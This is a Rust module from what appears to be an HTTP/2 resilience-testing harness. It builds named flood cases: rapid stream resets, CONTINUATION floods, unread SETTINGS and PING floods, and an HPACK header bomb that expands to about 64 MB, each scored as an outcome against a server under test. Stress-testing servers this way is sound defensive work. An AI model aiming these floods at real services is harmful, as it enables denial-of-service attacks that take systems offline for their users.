//! Floods of frames that ask for little and cost something.

use super::{Named, Outcome, Scene};
use crate::flood::{Flood, nothing};
use crate::frames::{
    END_HEADERS, END_STREAM, HEADERS, LONGEST, PING, RESET, SETTINGS, WINDOW_UPDATE,
};
use crate::messages::{self, AUTHORIZE, LIST, headers};
use crate::peer::Peer;

const PRIORITY: u8 = 2;
const CONTINUATION: u8 = 9;
/// A type that no version of HTTP/2 has.
const UNKNOWN: u8 = 0xfa;
const CANCEL: u32 = 8;
/// As many connections as one attacker needs to send as fast as it can.
const FEW: usize = 4;
/// How many frames are written down at a time.
const BURST: usize = 1_000;

pub(super) const ALL: &[Named] = &[
    ("resets of questions", resets_of_questions),
    ("resets of lists", resets_of_lists),
    ("CONTINUATION, empty", continuation_empty),
    ("CONTINUATION, full", continuation_full),
    ("SETTINGS", settings),
    ("SETTINGS, nothing read", settings_unread),
    ("PING", ping),
    ("PING, nothing read", ping_unread),
    ("WINDOW_UPDATE of the connection", window_update),
    ("WINDOW_UPDATE of a stream", window_update_of_stream),
    ("empty frames of unknown type", unknown),
    ("empty DATA", empty_data),
    ("PRIORITY", priority),
    ("HPACK: one entry, 16,000 times", hpack_bomb),
    ("HPACK: sizes of the table", hpack_sizes),
];

/// Frames, burst after burst, on connections that have begun and have one open call.
fn frames(scene: &Scene, things: &str, reads: bool, write: &dyn Fn(&mut Peer)) -> Outcome {
    let flood = Flood {
        connections: FEW,
        reads,
        begin: &|peer| {
            peer.begin(&[]);
            peer.open_call(AUTHORIZE);
            0
        },
        more: &|peer| {
            for _ in 0..BURST {
                write(peer);
            }
            BURST
        },
    };
    flood.run(scene, things)
}

fn resets_of_questions(scene: &Scene) -> Outcome {
    frames(scene, "calls with RST_STREAM", true, &|peer| {
        let stream = peer.open_call(AUTHORIZE);
        peer.frame(RESET, 0, stream, &CANCEL.to_be_bytes());
    })
}

fn resets_of_lists(scene: &Scene) -> Outcome {
    let list = messages::list(10_000);
    let flood = Flood {
        connections: FEW,
        reads: true,
        begin: &|peer| {
            peer.begin(&[]);
            0
        },
        more: &|peer| {
            let mut calls = 0;
            while calls < 100 && peer.window > 1_000 {
                let stream = peer.call(LIST, &list);
                peer.frame(RESET, 0, stream, &CANCEL.to_be_bytes());
                calls += 1;
            }
            calls
        },
    };
    flood.run(scene, "calls with RST_STREAM")
}

/// The headers of a call that do not end.
fn continuation(scene: &Scene, things: &str, payload: &[u8]) -> Outcome {
    let flood = Flood {
        connections: FEW,
        reads: true,
        begin: &|peer| {
            peer.begin(&[]);
            let stream = peer.next_stream;
            peer.frame(HEADERS, END_STREAM, stream, &headers(AUTHORIZE));
            0
        },
        more: &|peer| {
            let stream = peer.next_stream;
            let burst = if payload.is_empty() { BURST } else { 8 };
            for _ in 0..burst {
                peer.frame(CONTINUATION, 0, stream, payload);
            }
            burst
        },
    };
    flood.run(scene, things)
}

fn continuation_empty(scene: &Scene) -> Outcome {
    continuation(scene, "frames", &[])
}

fn continuation_full(scene: &Scene) -> Outcome {
    // Headers of a name and a value of four letters.
    let header = [0x00, 4, b'n', b'a', b'm', b'e', 4, b't', b'e', b'x', b't'];
    continuation(
        scene,
        "frames of 16 KB",
        &header.repeat(LONGEST / header.len()),
    )
}

fn settings(scene: &Scene) -> Outcome {
    frames(scene, "frames", true, &|peer| {
        peer.frame(SETTINGS, 0, 0, &[]);
    })
}

fn settings_unread(scene: &Scene) -> Outcome {
    frames(scene, "frames", false, &|peer| {
        peer.frame(SETTINGS, 0, 0, &[]);
    })
}

fn ping(scene: &Scene) -> Outcome {
    frames(scene, "frames", true, &|peer| {
        peer.frame(PING, 0, 0, &[7; 8]);
    })
}

fn ping_unread(scene: &Scene) -> Outcome {
    frames(scene, "frames", false, &|peer| {
        peer.frame(PING, 0, 0, &[7; 8]);
    })
}

fn window_update(scene: &Scene) -> Outcome {
    frames(scene, "frames", true, &|peer| {
        peer.frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
    })
}

fn window_update_of_stream(scene: &Scene) -> Outcome {
    frames(scene, "frames", true, &|peer| {
        peer.frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes());
    })
}

fn unknown(scene: &Scene) -> Outcome {
    frames(scene, "frames", true, &|peer| {
        peer.frame(UNKNOWN, 0, 0, &[]);
    })
}

fn empty_data(scene: &Scene) -> Outcome {
    frames(scene, "frames", true, &|peer| peer.data(0, 1, &[]))
}

fn priority(scene: &Scene) -> Outcome {
    frames(scene, "frames", true, &|peer| {
        peer.frame(PRIORITY, 0, 3, &[0, 0, 0, 0, 16]);
    })
}

/// Calls whose headers are these, whatever they are.
fn blocks(scene: &Scene, things: &str, first: &[u8], block: &[u8]) -> Outcome {
    let begin = |peer: &mut Peer| {
        peer.begin(&[]);
        let stream = peer.next_stream;
        peer.next_stream += 2;
        peer.frame(HEADERS, END_HEADERS | END_STREAM, stream, first);
        0
    };
    let flood = Flood {
        connections: FEW,
        reads: true,
        begin: &begin,
        more: if block.is_empty() {
            &nothing
        } else {
            &|peer| {
                let stream = peer.next_stream;
                peer.next_stream += 2;
                peer.frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
                1
            }
        },
    };
    flood.run(scene, things)
}

/// A header of 4,000 bytes that the server is to remember, and then 16,000 times what it remembers: 64 MB.
fn hpack_bomb(scene: &Scene) -> Outcome {
    let mut first = headers(AUTHORIZE);
    first.extend_from_slice(&[0x40, 4, b'n', b'a', b'm', b'e']);
    // 4,000 as HPACK writes it: 127, then what is left in groups of seven bits.
    first.extend_from_slice(&[0x7f, 0xa1, 0x1e]);
    first.extend(vec![b'x'; 4_000]);
    let mut block = headers(AUTHORIZE);
    block.resize(LONGEST, 0xbe);
    blocks(scene, "calls of 64 MB of headers", &first, &block)
}

/// The size of the table, said again and again.
fn hpack_sizes(scene: &Scene) -> Outcome {
    let mut block = [0x20, 0x3f, 0xe1, 0x1f].repeat(LONGEST / 4 - 32);
    block.extend(headers(AUTHORIZE));
    blocks(scene, "calls with 8,000 sizes", &headers(AUTHORIZE), &block)
}
